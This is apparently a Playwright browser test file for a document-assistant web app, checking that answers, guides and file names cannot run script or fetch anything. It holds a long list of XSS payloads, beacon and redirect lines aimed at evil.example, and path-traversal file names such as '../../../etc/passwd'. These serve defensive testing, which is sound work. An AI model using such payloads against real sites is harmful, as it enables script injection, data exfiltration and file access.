"""What stands in a guide, a question or a model's answer cannot run, fetch or break anything."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from assistant.reader import ReaderResult
from assistant.settings import Settings
from assistant.web.backend import Backend
from tests.page_fixtures import (
    ScriptedBackend,
    ScriptedReader,
    chromium,
    cited,
    page_settings,
    passage,
    serving,
    visiting,
)

pytestmark = pytest.mark.browser
__all__ = ["chromium", "page_settings"]
PAYLOADS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'></svg>",
    "<svg><animate onbegin='window.hacked = 1' attributeName='x' dur='1s'></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<iframe src='javascript:parent.hacked=1'></iframe>",
    "<a href='javascript:window.hacked=1'>click</a>",
    "<details open ontoggle='window.hacked = 1'><summary>s</summary></details>",
    "<form action='https://evil.example/'><button>Send</button></form>",
    "<div style='position:fixed;inset:0;background:red'>cover</div>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<template><script>window.hacked = 1</script></template>",
    "<math><mtext></p><style><img src onerror=window.hacked=1></style></mtext></math>",
    "</textarea><script>window.hacked = 1</script>",
    "</script><script>window.hacked = 1</script>",
    '"><img src=x onerror=window.hacked=1>',
    "' onmouseover='window.hacked=1",
    "![beacon](https://evil.example/pixel.png?q=secret)",
    "![x](javascript:window.hacked=1)",
    "[click](javascript:window.hacked=1)",
    '[click](https://evil.example/ "title")',
    "[ref]\n\n[ref]: https://evil.example/",
    "<https://evil.example/>",
    "[1](javascript:window.hacked=1)",
    "[1]: https://evil.example/",
    "${window.hacked = 1} {{constructor.constructor('window.hacked=1')()}}",
    "&lt;script&gt;window.hacked = 1&lt;/script&gt;",
    "\u202egnp.exe\u202c right to left \u200b\u2066",
    "\ue000<b>bold</b>\ue001",
    "A" * 3000,
    "Z\u0351\u0343\u0342\u036b" * 40,
    "\x1b[31mred\x1b[0m\x07\x00",
]


def test_an_answer_cannot_run_or_fetch_anything(chromium: Browser, page_settings: Settings) -> None:
    reader = ScriptedReader(ReaderResult(""))
    with serving(ScriptedBackend(page_settings, reader)) as address, visiting(chromium, address) as visitor:
        page = visitor.open()
        for payload in PAYLOADS:
            clean = payload.replace("\x00", "")
            source = passage(clean, title=clean, section=(clean, clean), source=clean, page=2)
            reader.result = cited(
                (clean, source),
                text=f"{clean} [1] and\n\n- {clean} [1]\n\n{clean}",
                unsupported=[1],
                notes=(clean,),
                suggestions=(clean[:200],),
                reason=clean,
            )
            visitor.ask(clean[:1500] or "empty")
            last = page.locator(".turn").last
            for chip in last.locator("a.citation").all()[:1]:
                chip.hover()
                chip.click()
        unharmed(page, address)
        page.reload()
        page.wait_for_selector(".turn .actions")
        assert page.locator(".turn").count() == len(PAYLOADS)
        unharmed(page, address)


def test_a_guide_cannot_run_or_fetch_anything(chromium: Browser, tmp_path: Path) -> None:
    (tmp_path / "guides").mkdir()
    for number, payload in enumerate(PAYLOADS):
        where = f"## Where do bees number {number} live?\n\nBees number {number} live in hives. {payload}"
        text = f"# Bees {payload}\n\n{where}\n"
        (tmp_path / "guides" / f"bees-{number}.md").write_text(text, encoding="utf-8")
        body = f"<h1>{payload}</h1><p>Wasps number {number} live in nests.</p><p>{payload}</p>"
        html = f"<html><title>{payload}</title><body>{body}</body></html>"
        (tmp_path / "guides" / f"<img src=x onerror=hacked=1>{number}.html").write_text(html, encoding="utf-8")
    backend = Backend(tmp_path / "guides", Settings(data_dir=str(tmp_path / "data")))
    with serving(backend) as address, visiting(chromium, address) as visitor:
        page = visitor.open()
        page.wait_for_selector(".examples button")
        unharmed(page, address)
        for number in (0, 1, 7, 20):
            visitor.ask(f"Where do bees number {number} live?")
            page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
            unharmed(page, address)
        page.get_by_role("button", name="Guides", exact=True).click()
        page.wait_for_selector("#guide-list li")
        unharmed(page, address)


def test_a_file_name_cannot_run_anything(chromium: Browser, page_settings: Settings, tmp_path: Path) -> None:
    with serving(Backend(None, page_settings)) as address, visiting(chromium, address) as visitor:
        page = visitor.open()
        page.get_by_role("button", name="Guides", exact=True).click()
        names = [
            "<img src=x onerror=hacked=1>.md",
            "../../../etc/passwd",
            "..\\..\\evil.md",
            "a\x00b.md",
            ".",
            "con:.md",
        ]
        for name in names:
            page.evaluate(
                """async name => fetch('/api/guides', {method: 'POST', body: '# A\\n\\nText of a guide here.',
                headers: {'x-file-name': encodeURIComponent(name)}})""",
                name,
            )
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Guides", exact=True).click()
        expect(page.locator("#upload-list li").first).to_be_visible()
        expect(page.locator("#upload-list progress")).to_have_count(0)
        unharmed(page, address)
        uploads = Path(page_settings.data_dir or "") / "uploads"
        written = [path.relative_to(uploads).parts for path in uploads.rglob("*.md")]
        assert all(len(parts) == 3 and parts[1] == "guides" for parts in written)
        assert not list(Path(page_settings.data_dir or "").glob("*passwd*"))
        assert all("400" in problem for problem in visitor.problems)  # the name that was nothing but a dot
        visitor.problems.clear()


def unharmed(page: Page, address: str) -> None:
    """No script ran, nothing but the page's own elements is there, and the frame stands where it stood."""
    assert page.evaluate("window.hacked") is None
    assert page.url.startswith(address)
    foreign = "script:not([src^='/assets/']), iframe, img, object, embed, base, meta[http-equiv], #thread form"
    assert page.locator(foreign).count() == 0
    assert page.locator("body style, body link, [style*='fixed']:not(#tip)").count() == 0
    assert page.locator("#thread a:not(.citation)").count() == 0
    links = page.locator("#sources a").evaluate_all("links => links.map(link => link.href)")
    assert all(link.startswith((address, "https://")) for link in links)
    attributes = "[...document.querySelectorAll('#thread *, #sources *, dialog *')].flatMap(e => e.getAttributeNames())"
    assert not [name for name in page.evaluate(attributes) if name.startswith("on")]
    box = page.locator("#composer").bounding_box()
    assert box is not None
    assert box["y"] + box["height"] <= 861
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.evaluate(
        "document.querySelector('#scroller').scrollWidth <= document.querySelector('#scroller').clientWidth"
    )
